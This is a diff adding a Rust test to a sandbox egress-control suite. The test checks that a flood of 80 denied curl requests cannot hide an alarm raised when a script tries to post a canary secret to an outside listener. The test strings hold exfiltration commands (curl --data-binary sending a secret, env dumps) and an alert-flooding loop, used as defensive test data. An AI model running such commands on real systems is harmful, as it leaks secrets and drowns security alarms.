@@ -123,6 +123,17 @@ lab_tests! {
         assert!(names.asked().is_empty(), "{:?}", names.asked());
     }
 
+    fn no_number_of_denials_drowns_an_alarm(lab) {
+        let thief = thief();
+        let flood = "for i in {1..80}; do curl -s http://n$i.denied.example:8099/; done; ";
+        let script = format!("{SEARCH} {flood} curl -sS --data-binary \"$C\" $URL/");
+        let outcome = sandbox(lab).run(&bash(&script));
+        assert_eq!(thief.take(), b"", "{outcome}");
+        assert!(outcome.stderr.contains("further denials are only in the audit record"), "{outcome}");
+        assert!(outcome.stderr.contains("outgate: ALARM: denied"), "{outcome}");
+        assert!(outcome.stderr.contains("outgate: 1 ALARM; "), "{outcome}");
+    }
+
     fn canaries_stand_in_nobodys_way(lab) {
         let thief = thief();
         let script = format!("{SEARCH} curl -sS $URL/; env; find $TMPDIR -type f; echo $C");
